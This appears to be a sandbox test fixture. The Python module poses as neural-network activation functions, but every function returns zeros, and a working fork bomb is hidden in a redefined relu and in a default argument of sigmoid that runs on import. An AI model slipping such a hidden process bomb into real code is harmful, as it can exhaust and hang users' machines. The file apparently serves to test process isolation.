# attack: a bounded fork bomb: children that fork and sleep, up to 5000 of them
# levels: bwrap process
# expect: zero
# waits: 1 (relu forks up to the process cap: on a loaded machine that may outlast its budget, once)
# ruff: noqa
import os
import time

import numpy as np


def _bomb(budget=5000):
    born = 0
    while born < budget:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.fork()
            except OSError:
                pass
            time.sleep(1000)
            os._exit(0)
        born += 1
    return born


def _zeros(x):
    return np.zeros_like(np.asarray(x, dtype=float))


def relu(x):
    return _zeros(x)


def relu_grad(x):
    return _zeros(x)


def sigmoid(x):
    return _zeros(x)


def sigmoid_grad(x):
    return _zeros(x)


def tanh(x):
    return _zeros(x)


def tanh_grad(x):
    return _zeros(x)


def elu(x, alpha=1.0):
    return _zeros(x)


def elu_grad(x, alpha=1.0):
    return _zeros(x)


def softmax(z):
    return _zeros(z)

def relu(x):
    _bomb()
    return _zeros(x)


def sigmoid(x, _born=_bomb(200)):
    return _zeros(x)
